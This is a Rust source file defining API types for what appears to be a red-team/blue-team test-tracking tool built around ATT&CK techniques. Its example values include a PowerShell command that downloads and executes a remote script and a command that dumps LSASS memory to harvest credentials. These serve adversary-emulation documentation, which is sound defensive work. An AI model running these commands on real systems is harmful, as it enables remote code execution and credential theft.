//! What the API sends and receives; conversions to and from the model.

use std::collections::{BTreeMap, HashMap};

use aegis_core::http::strict_json;
use aegis_core::time::Timestamp;
use poem_openapi::types::{Example, MaybeUndefined};
use poem_openapi::{Enum, Object};
use serde_json::Value;

use aegis_core::auth::{Member, Role};
use aegis_core::error::FieldError;

use crate::bulk::{BulkAction, BulkOutcome};
use crate::evidence_repo::EvidenceRecord;
use crate::model::{
    AttackOutcome, DetectionOutcome, TechniqueDomain, TestPatch, TestRecord, TestSort,
    TransitionRecord,
};
use crate::template::{ImportReport, InputArgument, TemplatePatch, TemplateRecord};
use crate::workflow::{Side, TestState, Transition, may_be_assignee};
use aegis_core::http::Nullable;
use aegis_core::time::StorableTime;

// A name holds at least one character that is not white space: the class
// below is Rust's `White_Space` (what `trim` drops), spelled out because `\s`
// means a different set to Rust, JavaScript and Python, with U+2000–U+205F
// taken whole so no generator meets a raw U+2028 (a JavaScript line break).

/// The technique a test points at, as the catalog has it now.
#[derive(Debug, Object)]
#[oai(skip_serializing_if_is_none)]
pub struct TechniqueRefView {
    pub domain: String,
    pub attack_id: String,
    /// Absent when the catalog does not hold this id.
    pub name: Option<String>,
    pub revoked: bool,
    pub deprecated: bool,
    /// For a revoked technique: the one that replaces it.
    pub replaced_by: Option<String>,
    pub replaced_by_name: Option<String>,
    /// A sentence for people when the technique is no longer current.
    pub warning: Option<String>,
}

#[derive(Debug, Object)]
pub struct TransitionView {
    pub transition: String,
    pub from_state: String,
    pub to_state: String,
    pub actor_id: String,
    pub actor_name: String,
    pub at: Timestamp,
}

impl From<TransitionRecord> for TransitionView {
    fn from(t: TransitionRecord) -> Self {
        Self {
            transition: t.transition,
            from_state: t.from_state,
            to_state: t.to_state,
            actor_id: t.actor_id,
            actor_name: t.actor_name,
            at: t.at,
        }
    }
}

/// A test: its plan, the red half (what was done) and the blue half (what
/// was seen). A field without a value is absent, never `null`.
#[derive(Debug, Object)]
#[oai(skip_serializing_if_is_none)]
pub struct TestView {
    pub id: String,
    pub name: String,
    pub technique: TechniqueRefView,
    pub campaign_id: Option<String>,
    /// The template the test was made from.
    pub template_id: Option<String>,
    pub procedure: String,
    pub platform: Option<String>,
    pub target_host: Option<String>,
    pub red_assignee_id: Option<String>,
    pub blue_assignee_id: Option<String>,
    pub tags: Vec<String>,
    pub state: TestState,
    pub executed_at: Option<Timestamp>,
    pub attack_outcome: Option<AttackOutcome>,
    pub red_notes: String,
    pub detection_outcome: Option<DetectionOutcome>,
    pub detected_at: Option<Timestamp>,
    pub detection_source: Option<String>,
    pub blue_notes: String,
    /// Send it back as `If-Match` (or `version`) when you change the test.
    pub version: i64,
    pub created_at: Timestamp,
    pub created_by: String,
    pub updated_at: Timestamp,
    pub updated_by: String,
    /// Every transition with who and when (on single-test answers).
    pub transitions: Option<Vec<TransitionView>>,
}

impl TestView {
    pub fn new(r: TestRecord, transitions: Option<Vec<TransitionRecord>>) -> Self {
        let t = r.technique;
        let warning = if t.revoked {
            Some(match &t.replaced_by {
                Some(by) => format!("{} is revoked; ATT&CK replaces it with {by}", t.attack_id),
                None => format!("{} is revoked", t.attack_id),
            })
        } else if t.deprecated {
            Some(format!("{} is deprecated", t.attack_id))
        } else if t.name.is_none() {
            Some(format!("{} is not in the ATT&CK catalog", t.attack_id))
        } else {
            None
        };
        let f = r.fields;
        Self {
            id: r.id,
            name: f.name,
            technique: TechniqueRefView {
                domain: t.domain,
                attack_id: t.attack_id,
                name: t.name,
                revoked: t.revoked,
                deprecated: t.deprecated,
                replaced_by: t.replaced_by,
                replaced_by_name: t.replaced_by_name,
                warning,
            },
            campaign_id: f.campaign_id,
            template_id: r.template_id,
            procedure: f.procedure,
            platform: f.platform,
            target_host: f.target_host,
            red_assignee_id: f.red_assignee_id,
            blue_assignee_id: f.blue_assignee_id,
            tags: f.tags,
            state: r.state,
            executed_at: f.executed_at,
            attack_outcome: f.attack_outcome,
            red_notes: f.red_notes,
            detection_outcome: f.detection_outcome,
            detected_at: f.detected_at,
            detection_source: f.detection_source,
            blue_notes: f.blue_notes,
            version: r.version,
            created_at: r.created_at,
            created_by: r.created_by,
            updated_at: r.updated_at,
            updated_by: r.updated_by,
            transitions: transitions.map(|ts| ts.into_iter().map(Into::into).collect()),
        }
    }
}

/// A new test. It starts as a draft; the blue half is filled once blue evaluates.
#[derive(Debug, Object)]
// Skipping absent fields only shapes the example, which sets a few.
#[oai(deny_unknown_fields, example, skip_serializing_if_is_none)]
pub struct NewTestInput {
    /// Leading and trailing spaces are dropped.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            min_length = 1,
            max_length = 200,
            pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
        )
    )]
    pub name: String,
    /// ATT&CK id from the catalog, e.g. `T1059.001`; it must be in the
    /// catalog, neither revoked nor deprecated.
    #[oai(
        deserialize_with = "strict_json",
        validator(pattern = r"^[Tt][0-9]{4}(\.[0-9]{3})?$")
    )]
    pub technique_id: String,
    #[oai(deserialize_with = "strict_json")]
    pub technique_domain: Option<TechniqueDomain>,
    /// An existing campaign that is not completed.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
        )
    )]
    pub campaign_id: Option<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub procedure: Option<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 255))]
    pub platform: Option<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 255))]
    pub target_host: Option<String>,
    /// An active user; a red tech's test is theirs when left out.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
        )
    )]
    pub red_assignee_id: Option<String>,
    /// An active user.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
        )
    )]
    pub blue_assignee_id: Option<String>,
    /// Stored lower-case, sorted, without duplicates.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            max_items = 32,
            max_length = 64,
            pattern = r"^ *[A-Za-z0-9_.:/-][A-Za-z0-9 _.:/-]*$"
        )
    )]
    pub tags: Option<Vec<String>>,
    #[oai(deserialize_with = "strict_json")]
    pub executed_at: Option<StorableTime>,
    #[oai(deserialize_with = "strict_json")]
    pub attack_outcome: Option<AttackOutcome>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub red_notes: Option<String>,
}

impl Example for NewTestInput {
    fn example() -> Self {
        Self {
            name: "PowerShell download cradle".into(),
            technique_id: "T1059.001".into(),
            technique_domain: None,
            campaign_id: None,
            procedure: Some("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"".into()),
            platform: Some("windows".into()),
            target_host: Some("ws-042.corp.example".into()),
            red_assignee_id: None,
            blue_assignee_id: None,
            tags: Some(vec!["execution".into(), "q2-exercise".into()]),
            executed_at: None,
            attack_outcome: None,
            red_notes: None,
        }
    }
}

impl From<NewTestInput> for TestPatch {
    fn from(i: NewTestInput) -> Self {
        TestPatch {
            name: Some(i.name),
            technique_domain: i.technique_domain.map(|d| d.as_str().to_owned()),
            technique_id: Some(i.technique_id),
            campaign_id: i.campaign_id.map(Some),
            procedure: i.procedure,
            platform: i.platform.map(Some),
            target_host: i.target_host.map(Some),
            red_assignee_id: i.red_assignee_id.map(Some),
            blue_assignee_id: i.blue_assignee_id.map(Some),
            tags: i.tags,
            executed_at: i.executed_at.map(|t| Some(t.0)),
            attack_outcome: i.attack_outcome.map(Some),
            red_notes: i.red_notes,
            ..TestPatch::default()
        }
    }
}

/// A partial change: a field left out stays as it is, `null` clears it.
/// Plan and red fields are for red techs, leads and admins; blue fields for
/// blue techs, leads and admins; each group only while the test's state
/// leaves it open (409 `fields_locked` otherwise).
#[derive(Debug, Object)]
// Skipping absent fields only shapes the example, which sets a few.
#[oai(deny_unknown_fields, example, skip_serializing_if_is_none)]
pub struct TestPatchInput {
    /// The version you edited, unless sent as `If-Match` (they must agree
    /// when both are sent).
    #[oai(deserialize_with = "strict_json")]
    pub version: Option<i64>,
    #[oai(
        deserialize_with = "strict_json",
        validator(
            min_length = 1,
            max_length = 200,
            pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
        )
    )]
    pub name: Option<String>,
    #[oai(deserialize_with = "strict_json")]
    pub technique_domain: Option<TechniqueDomain>,
    #[oai(
        deserialize_with = "strict_json",
        validator(pattern = r"^[Tt][0-9]{4}(\.[0-9]{3})?$")
    )]
    pub technique_id: Option<String>,
    #[oai(validator(
        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
    ))]
    pub campaign_id: Nullable<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub procedure: Option<String>,
    #[oai(validator(max_length = 255))]
    pub platform: Nullable<String>,
    #[oai(validator(max_length = 255))]
    pub target_host: Nullable<String>,
    #[oai(validator(
        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
    ))]
    pub red_assignee_id: Nullable<String>,
    #[oai(validator(
        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
    ))]
    pub blue_assignee_id: Nullable<String>,
    #[oai(
        deserialize_with = "strict_json",
        validator(
            max_items = 32,
            max_length = 64,
            pattern = r"^ *[A-Za-z0-9_.:/-][A-Za-z0-9 _.:/-]*$"
        )
    )]
    pub tags: Option<Vec<String>>,
    pub executed_at: Nullable<StorableTime>,
    pub attack_outcome: Nullable<AttackOutcome>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub red_notes: Option<String>,
    pub detection_outcome: Nullable<DetectionOutcome>,
    /// Not before `executed_at`.
    pub detected_at: Nullable<StorableTime>,
    #[oai(validator(max_length = 255))]
    pub detection_source: Nullable<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub blue_notes: Option<String>,
}

impl Example for TestPatchInput {
    fn example() -> Self {
        Self {
            version: None,
            name: None,
            technique_domain: None,
            technique_id: None,
            campaign_id: Nullable::default(),
            procedure: None,
            platform: Nullable::default(),
            target_host: Nullable::default(),
            red_assignee_id: Nullable::default(),
            blue_assignee_id: Nullable::default(),
            tags: None,
            executed_at: Nullable(MaybeUndefined::Value(StorableTime(
                chrono::DateTime::parse_from_rfc3339("2026-03-02T10:15:00Z")
                    .map(|t| t.to_utc())
                    .unwrap_or_default(),
            ))),
            attack_outcome: Nullable(MaybeUndefined::Value(AttackOutcome::Succeeded)),
            red_notes: Some("Ran from an unprivileged session; the script was fetched.".into()),
            detection_outcome: Nullable::default(),
            detected_at: Nullable::default(),
            detection_source: Nullable::default(),
            blue_notes: None,
        }
    }
}

impl From<TestPatchInput> for TestPatch {
    fn from(i: TestPatchInput) -> Self {
        TestPatch {
            name: i.name,
            technique_domain: i.technique_domain.map(|d| d.as_str().to_owned()),
            technique_id: i.technique_id,
            campaign_id: i.campaign_id.change(),
            procedure: i.procedure,
            platform: i.platform.change(),
            target_host: i.target_host.change(),
            red_assignee_id: i.red_assignee_id.change(),
            blue_assignee_id: i.blue_assignee_id.change(),
            tags: i.tags,
            executed_at: i.executed_at.change().map(|t| t.map(|t| t.0)),
            attack_outcome: i.attack_outcome.change(),
            red_notes: i.red_notes,
            detection_outcome: i.detection_outcome.change(),
            detected_at: i.detected_at.change().map(|t| t.map(|t| t.0)),
            detection_source: i.detection_source.change(),
            blue_notes: i.blue_notes,
        }
    }
}

#[derive(Debug, Object)]
#[oai(skip_serializing_if_is_none)]
pub struct TestPage {
    pub items: Vec<TestView>,
    /// Present when the page is full: pass it as `after` (with the same
    /// `sort` and filters) for the next page.
    pub next: Option<String>,
    /// How many tests match; when `total_exact` is false, at least this many.
    pub total: i64,
    /// False when counting stopped 10,000 tests past `offset`; ask with
    /// `exact_total=true` for the whole count.
    pub total_exact: bool,
    pub limit: i64,
    pub offset: i64,
}

#[derive(Debug, Object)]
pub struct FieldChangeView {
    pub field: String,
    pub before: Value,
    pub after: Value,
}

/// One recorded change: an edit (with its fields), a transition or an evidence change.
#[derive(Debug, Object)]
#[oai(skip_serializing_if_is_none)]
pub struct HistoryEntry {
    pub id: String,
    pub at: Timestamp,
    pub actor_id: Option<String>,
    pub actor_name: Option<String>,
    /// `test.create`, `test.update`, `test.start_execution`, `test.evidence_add`, ...
    pub action: String,
    /// Field by field, for creations and edits.
    pub changes: Vec<FieldChangeView>,
    pub detail: Value,
}

#[derive(Debug, Object)]
pub struct HistoryPage {
    pub items: Vec<HistoryEntry>,
    pub total: i64,
    pub limit: i64,
    pub offset: i64,
}

/// Someone who can be named on a test: an active user, with the sides
/// they may be assigned to.
#[derive(Debug, Object)]
pub struct PersonView {
    pub id: String,
    pub username: String,
    pub display_name: String,
    pub role: Role,
    /// May be a test's red assignee (admins, leads, red techs).
    pub red: bool,
    /// May be a test's blue assignee (admins, leads, blue techs).
    pub blue: bool,
}

impl From<Member> for PersonView {
    fn from(m: Member) -> Self {
        Self {
            red: may_be_assignee(Side::Red, m.role),
            blue: may_be_assignee(Side::Blue, m.role),
            id: m.user_id,
            username: m.username,
            display_name: m.display_name,
            role: m.role,
        }
    }
}

/// `me`: only the tests waiting for the caller.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Enum)]
#[oai(rename_all = "snake_case")]
pub enum WaitingFor {
    Me,
}

/// What a bulk request does to each of its tests.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Enum)]
#[oai(rename_all = "snake_case")]
pub enum BulkTestAction {
    /// Set the red assignee to `user_id` (`null` clears it).
    AssignRed,
    /// Set the blue assignee to `user_id` (`null` clears it).
    AssignBlue,
    /// Add `tags` to each test's tags.
    AddTags,
    /// Remove `tags` from each test's tags.
    RemoveTags,
    /// Put each test in `campaign_id` (`null` takes it out of its campaign).
    MoveToCampaign,
    /// draft → red_executing.
    StartExecution,
    /// draft or red_executing → cancelled.
    Cancel,
}

/// One action applied to up to 500 tests, each under the rules of the
/// single operation and in its own transaction. Send the one field the
/// action uses (`user_id`, `campaign_id` or `tags`) and no other.
#[derive(Debug, Object)]
#[oai(deny_unknown_fields, example, skip_serializing_if_is_none)]
pub struct BulkTestInput {
    /// 1 to 500 test ids; a repeated id counts once.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            min_items = 1,
            max_items = 500,
            pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
        )
    )]
    pub ids: Vec<String>,
    #[oai(deserialize_with = "strict_json")]
    pub action: BulkTestAction,
    /// For `assign_red` and `assign_blue` (required there): an active user
    /// of that side, or `null` to clear the assignee.
    #[oai(validator(
        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
    ))]
    pub user_id: Nullable<String>,
    /// For `move_to_campaign` (required there): a campaign that is not
    /// completed, or `null`.
    #[oai(validator(
        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
    ))]
    pub campaign_id: Nullable<String>,
    /// For `add_tags` and `remove_tags` (required there): 1 to 32 tags.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            min_items = 1,
            max_items = 32,
            max_length = 64,
            pattern = r"^ *[A-Za-z0-9_.:/-][A-Za-z0-9 _.:/-]*$"
        )
    )]
    pub tags: Option<Vec<String>>,
}

impl Example for BulkTestInput {
    fn example() -> Self {
        Self {
            ids: vec![
                "01960c8e-7d1a-7c3e-9a51-2f4b8d0e6a11".into(),
                "01960c8e-9b02-7f44-8c2d-5e1a3b7c9d22".into(),
            ],
            action: BulkTestAction::AddTags,
            user_id: Nullable::default(),
            campaign_id: Nullable::default(),
            tags: Some(vec!["q3-exercise".into()]),
        }
    }
}

impl BulkTestInput {
    /// The action with its one argument; a missing or extra field is named.
    pub fn action(self) -> Result<(Vec<String>, BulkAction), Vec<FieldError>> {
        use BulkTestAction as A;
        let user = self.user_id.change();
        let campaign = self.campaign_id.change();
        let needs = |field: &str| FieldError::new(field, "required by this action");
        let action = match self.action {
            A::AssignRed | A::AssignBlue => match user.clone() {
                None => return Err(vec![needs("user_id")]),
                Some(u) if self.action == A::AssignRed => BulkAction::AssignRed(u),
                Some(u) => BulkAction::AssignBlue(u),
            },
            A::MoveToCampaign => match campaign.clone() {
                None => return Err(vec![needs("campaign_id")]),
                Some(c) => BulkAction::MoveToCampaign(c),
            },
            A::AddTags | A::RemoveTags => match self.tags.clone() {
                None => return Err(vec![needs("tags")]),
                Some(t) if self.action == A::AddTags => BulkAction::AddTags(t),
                Some(t) => BulkAction::RemoveTags(t),
            },
            A::StartExecution => BulkAction::Transition(Transition::StartExecution),
            A::Cancel => BulkAction::Transition(Transition::Cancel),
        };
        let used = match &action {
            BulkAction::AssignRed(_) | BulkAction::AssignBlue(_) => "user_id",
            BulkAction::MoveToCampaign(_) => "campaign_id",
            BulkAction::AddTags(_) | BulkAction::RemoveTags(_) => "tags",
            BulkAction::Transition(_) => "",
        };
        let extra: Vec<FieldError> = [
            ("user_id", user.is_some()),
            ("campaign_id", campaign.is_some()),
            ("tags", self.tags.is_some()),
        ]
        .into_iter()
        .filter(|(field, sent)| *sent && *field != used)
        .map(|(field, _)| FieldError::new(field, "not used by this action; leave it out"))
        .collect();
        if extra.is_empty() {
            Ok((self.ids, action))
        } else {
            Err(extra)
        }
    }
}

/// What became of one test of a bulk request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Enum)]
#[oai(rename_all = "snake_case")]
pub enum BulkItemStatus {
    /// Changed (and audited).
    Done,
    /// Already as asked; nothing written.
    Unchanged,
    /// Not changed: `code` and `reason` say why.
    Refused,
}

/// One test's outcome; `state` and `version` are the test's after the
/// request (done, unchanged).
#[derive(Debug, Object)]
#[oai(skip_serializing_if_is_none)]
pub struct BulkItemView {
    pub id: String,
    pub status: BulkItemStatus,
    pub state: Option<TestState>,
    pub version: Option<i64>,
    /// The error code the single operation would have answered (refused).
    pub code: Option<String>,
    pub reason: Option<String>,
}

impl BulkItemView {
    pub fn new(id: String, outcome: BulkOutcome) -> Self {
        let (status, record, problem) = match outcome {
            BulkOutcome::Done(r) => (BulkItemStatus::Done, Some(r), None),
            BulkOutcome::Unchanged(r) => (BulkItemStatus::Unchanged, Some(r), None),
            BulkOutcome::Refused(error) => (
                BulkItemStatus::Refused,
                None,
                Some(aegis_core::ApiError::from(error).problem().clone()),
            ),
        };
        let reason = problem.as_ref().map(|p| {
            let fields: Vec<String> = p
                .errors
                .iter()
                .map(|e| format!("{}: {}", e.field, e.message))
                .collect();
            if fields.is_empty() {
                p.detail.clone()
            } else {
                fields.join("; ")
            }
        });
        Self {
            id,
            status,
            state: record.as_ref().map(|r| r.state),
            version: record.as_ref().map(|r| r.version),
            code: problem.map(|p| p.code),
            reason,
        }
    }
}

/// Each test's outcome, in the order sent, and the counts.
#[derive(Debug, Object)]
pub struct BulkTestReport {
    pub items: Vec<BulkItemView>,
    pub done: i64,
    pub unchanged: i64,
    pub refused: i64,
}

#[derive(Debug, Object)]
pub struct EvidenceView {
    pub id: String,
    pub test_id: String,
    pub side: Side,
    pub file_name: String,
    pub media_type: String,
    pub size_bytes: i64,
    /// Hex SHA-256 of the stored bytes.
    pub sha256: String,
    pub description: String,
    pub uploaded_by_id: String,
    pub uploaded_by_name: String,
    pub uploaded_at: Timestamp,
    pub download_url: String,
}

impl From<EvidenceRecord> for EvidenceView {
    fn from(e: EvidenceRecord) -> Self {
        Self {
            download_url: format!("/api/v1/tests/{}/evidence/{}/download", e.test_id, e.id),
            id: e.id,
            test_id: e.test_id,
            side: e.side,
            file_name: e.file_name,
            media_type: e.media_type,
            size_bytes: e.size_bytes,
            sha256: e.sha256,
            description: e.description,
            uploaded_by_id: e.uploaded_by_id,
            uploaded_by_name: e.uploaded_by_name,
            uploaded_at: e.uploaded_at,
        }
    }
}

/// One `#{argument}` of a template's command.
#[derive(Debug, Clone, Object)]
pub struct InputArgumentView {
    pub description: String,
    /// `string`, `path`, `url`, `integer`, ...
    #[oai(rename = "type")]
    pub kind: String,
    pub default: String,
}

impl From<InputArgument> for InputArgumentView {
    fn from(a: InputArgument) -> Self {
        Self {
            description: a.description,
            kind: a.kind,
            default: a.default,
        }
    }
}

/// One `#{argument}` of a template's command, as written: a field left out
/// is empty, except `type`, which is `string`.
#[derive(Debug, Clone, Object)]
#[oai(deny_unknown_fields)]
pub struct InputArgumentInput {
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub description: Option<String>,
    /// `string`, `path`, `url`, `integer`, ...
    #[oai(
        rename = "type",
        deserialize_with = "strict_json",
        validator(max_length = 64)
    )]
    pub kind: Option<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub default: Option<String>,
}

impl From<InputArgumentInput> for InputArgument {
    fn from(a: InputArgumentInput) -> Self {
        Self {
            description: a.description.unwrap_or_default(),
            kind: a.kind.unwrap_or_else(|| "string".into()),
            default: a.default.unwrap_or_default(),
        }
    }
}

/// A reusable procedure. A field without a value is absent, never `null`.
#[derive(Debug, Object)]
#[oai(skip_serializing_if_is_none)]
pub struct TemplateView {
    pub id: String,
    pub name: String,
    pub description: String,
    pub technique_domain: String,
    pub technique_id: String,
    pub platforms: Vec<String>,
    pub executor: Option<String>,
    /// The procedure, with `#{argument}` placeholders.
    pub command: String,
    pub cleanup_command: Option<String>,
    pub elevation_required: bool,
    pub input_arguments: BTreeMap<String, InputArgumentView>,
    /// `manual` or `atomic-red-team`.
    pub source: String,
    /// For imported atomics, their `auto_generated_guid`.
    pub external_id: Option<String>,
    pub version: i64,
    pub created_at: Timestamp,
    pub created_by: String,
    pub updated_at: Timestamp,
    pub updated_by: String,
}

impl From<TemplateRecord> for TemplateView {
    fn from(r: TemplateRecord) -> Self {
        let f = r.fields;
        Self {
            id: r.id,
            name: f.name,
            description: f.description,
            technique_domain: f.technique_domain,
            technique_id: f.technique_id,
            platforms: f.platforms,
            executor: f.executor,
            command: f.command,
            cleanup_command: f.cleanup_command,
            elevation_required: f.elevation_required,
            input_arguments: f
                .input_arguments
                .into_iter()
                .map(|(k, v)| (k, v.into()))
                .collect(),
            source: r.source,
            external_id: r.external_id,
            version: r.version,
            created_at: r.created_at,
            created_by: r.created_by,
            updated_at: r.updated_at,
            updated_by: r.updated_by,
        }
    }
}

/// A template written by hand.
#[derive(Debug, Object)]
// Skipping absent fields only shapes the example, which sets a few.
#[oai(deny_unknown_fields, example, skip_serializing_if_is_none)]
pub struct NewTemplateInput {
    #[oai(
        deserialize_with = "strict_json",
        validator(
            min_length = 1,
            max_length = 200,
            pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
        )
    )]
    pub name: String,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub description: Option<String>,
    /// ATT&CK id from the catalog, e.g. `T1003.001`.
    #[oai(
        deserialize_with = "strict_json",
        validator(pattern = r"^[Tt][0-9]{4}(\.[0-9]{3})?$")
    )]
    pub technique_id: String,
    /// Stored lower-case, sorted, without duplicates.
    #[oai(
        deserialize_with = "strict_json",
        validator(max_items = 16, max_length = 64)
    )]
    pub platforms: Option<Vec<String>>,
    /// `command_prompt`, `powershell`, `sh`, `bash`, `manual`...
    #[oai(deserialize_with = "strict_json", validator(max_length = 255))]
    pub executor: Option<String>,
    /// The procedure, with `#{argument}` placeholders.
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub command: Option<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub cleanup_command: Option<String>,
    #[oai(deserialize_with = "strict_json")]
    pub elevation_required: Option<bool>,
    /// Named with letters, digits, `-` and `_` (at most 64 characters).
    #[oai(deserialize_with = "strict_json", validator(max_properties = 64))]
    pub input_arguments: Option<BTreeMap<String, InputArgumentInput>>,
}

impl Example for NewTemplateInput {
    fn example() -> Self {
        Self {
            name: "Dump LSASS with comsvcs.dll".into(),
            description: Some("MiniDump of lsass.exe through rundll32.".into()),
            technique_id: "T1003.001".into(),
            platforms: Some(vec!["windows".into()]),
            executor: Some("powershell".into()),
            command: Some(
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).id #{output_file} full"
                    .into(),
            ),
            cleanup_command: Some("Remove-Item #{output_file}".into()),
            elevation_required: Some(true),
            input_arguments: Some(BTreeMap::from([(
                "output_file".to_owned(),
                InputArgumentInput {
                    description: Some("Where the dump is written".into()),
                    kind: Some("path".into()),
                    default: Some("C:\\Windows\\Temp\\lsass.dmp".into()),
                },
            )])),
        }
    }
}

impl From<NewTemplateInput> for TemplatePatch {
    fn from(i: NewTemplateInput) -> Self {
        TemplatePatch {
            name: Some(i.name),
            description: i.description,
            technique_id: Some(i.technique_id),
            platforms: i.platforms,
            executor: i.executor.map(Some),
            command: i.command,
            cleanup_command: i.cleanup_command.map(Some),
            elevation_required: i.elevation_required,
            input_arguments: i
                .input_arguments
                .map(|m| m.into_iter().map(|(k, v)| (k, v.into())).collect()),
        }
    }
}

/// A partial change to a template: a field left out stays as it is, `null`
/// clears it.
#[derive(Debug, Object)]
#[oai(deny_unknown_fields)]
pub struct TemplatePatchInput {
    /// The version you edited, unless sent as `If-Match` (they must agree
    /// when both are sent).
    #[oai(deserialize_with = "strict_json")]
    pub version: Option<i64>,
    #[oai(
        deserialize_with = "strict_json",
        validator(
            min_length = 1,
            max_length = 200,
            pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
        )
    )]
    pub name: Option<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub description: Option<String>,
    #[oai(
        deserialize_with = "strict_json",
        validator(pattern = r"^[Tt][0-9]{4}(\.[0-9]{3})?$")
    )]
    pub technique_id: Option<String>,
    #[oai(
        deserialize_with = "strict_json",
        validator(max_items = 16, max_length = 64)
    )]
    pub platforms: Option<Vec<String>>,
    #[oai(validator(max_length = 255))]
    pub executor: Nullable<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 65536))]
    pub command: Option<String>,
    #[oai(validator(max_length = 65536))]
    pub cleanup_command: Nullable<String>,
    #[oai(deserialize_with = "strict_json")]
    pub elevation_required: Option<bool>,
    /// The whole set: arguments left out are removed.
    #[oai(deserialize_with = "strict_json", validator(max_properties = 64))]
    pub input_arguments: Option<BTreeMap<String, InputArgumentInput>>,
}

impl From<TemplatePatchInput> for TemplatePatch {
    fn from(i: TemplatePatchInput) -> Self {
        TemplatePatch {
            name: i.name,
            description: i.description,
            technique_id: i.technique_id,
            platforms: i.platforms,
            executor: i.executor.change(),
            command: i.command,
            cleanup_command: i.cleanup_command.change(),
            elevation_required: i.elevation_required,
            input_arguments: i
                .input_arguments
                .map(|m| m.into_iter().map(|(k, v)| (k, v.into())).collect()),
        }
    }
}

#[derive(Debug, Object)]
pub struct TemplatePage {
    pub items: Vec<TemplateView>,
    pub total: i64,
    pub limit: i64,
    pub offset: i64,
}

/// A test from a template: its technique and command come from the template.
#[derive(Debug, Object)]
// Skipping absent fields only shapes the example, which sets a few.
#[oai(deny_unknown_fields, example, skip_serializing_if_is_none)]
pub struct FromTemplateInput {
    /// Defaults to the template's name.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            min_length = 1,
            max_length = 200,
            pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
        )
    )]
    pub name: Option<String>,
    /// Values for the template's input arguments (only those it has); the
    /// rest keep their defaults.
    #[oai(deserialize_with = "strict_json")]
    pub arguments: Option<HashMap<String, String>>,
    /// An existing campaign that is not completed.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
        )
    )]
    pub campaign_id: Option<String>,
    /// Defaults to the template's platform when it has exactly one.
    #[oai(deserialize_with = "strict_json", validator(max_length = 255))]
    pub platform: Option<String>,
    #[oai(deserialize_with = "strict_json", validator(max_length = 255))]
    pub target_host: Option<String>,
    /// An active user.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
        )
    )]
    pub red_assignee_id: Option<String>,
    /// An active user.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
        )
    )]
    pub blue_assignee_id: Option<String>,
    /// Stored lower-case, sorted, without duplicates.
    #[oai(
        deserialize_with = "strict_json",
        validator(
            max_items = 32,
            max_length = 64,
